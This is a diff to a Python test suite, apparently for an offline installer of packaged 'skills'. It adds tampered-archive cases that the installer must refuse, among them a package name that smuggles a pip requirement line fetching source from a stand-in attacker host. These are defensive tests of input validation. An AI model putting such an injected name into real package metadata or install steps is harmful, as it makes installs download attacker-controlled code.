@@ -38,6 +38,7 @@ metadata:
 
 Count.
 """
+TRICK = rb'"name":"evil @ https://attacker.example/src.tar.gz\n--no-binary evil\nevil"'
 CODE = "import alpha\n\n\ndef run(x: int) -> int:\n    return x + alpha.value\n"
 
 
@@ -122,6 +123,20 @@ def sparse(files: dict[str, bytes], wheel: str) -> bytes:
             member.size = len(content)
             archive.addfile(member, io.BytesIO(content))
     return data.getvalue()
+
+
+def again(parcel: bytes, name: str, size: int = 0) -> bytes:
+    """A parcel with one more header at its end."""
+    member = tarfile.TarInfo(name)
+    member.size = size
+    return ended(parcel) + member.tobuf(tarfile.GNU_FORMAT) + bytes(10240)
+
+
+def ended(parcel: bytes) -> bytes:
+    """Its members, without the blocks of nothing that end it."""
+    with tarfile.open(fileobj=io.BytesIO(parcel)) as archive:
+        last = archive.getmembers()[-1]
+    return parcel[: last.offset_data + (last.size + 511) // 512 * 512]
 
 
 async def test_a_skill_with_packages_is_installed_without_an_index(
@@ -218,7 +233,13 @@ async def test_what_is_no_parcel_or_was_changed_is_refused_and_leaves_nothing(
         "cut": exported[: len(exported) // 2],
         "no list": packed({name: one for name, one in good.items() if name != "parcel.json"}),
         "another list": packed({**good, "parcel.json": good["parcel.json"].replace(b'"format":1', b'"format":2')}),
+        "a trick for a name": packed({**good, "parcel.json": good["parcel.json"].replace(b'"name":"alpha"', TRICK)}),
+        "its list twice": again(exported, "parcel.json", 10),
+        "its list for ever": again(exported, "parcel.json", -1024),
+        "its bundle twice": again(exported, "bundle.tar"),
+        "a wheel twice": again(exported, wheel),
     }
+    assert all(content != exported for content in bad.values())
     assert wheelhouse.url
     async with machine(tmp_path / "here", "http://127.0.0.1:9/simple") as (runtime, offline, admin):
         for what, content in bad.items():
@@ -228,6 +249,7 @@ async def test_what_is_no_parcel_or_was_changed_is_refused_and_leaves_nothing(
                 await offline.take_in(file, workspace=admin.workspace, by=admin)
             assert isinstance(refused.value, InputError), f"{what}: {refused.value!r}"
             # Before any of it is written.
-            assert what != "a hole" or "is no file" in str(refused.value)
+            assert what != "a hole" or "sparse" in str(refused.value)
+            assert what != "a trick for a name" or "is no name of a package" in str(refused.value)
         assert await runtime.skills(WorkspaceId(admin.workspace)) == ()
         assert not (tmp_path / "here" / "wheelhouse").exists()
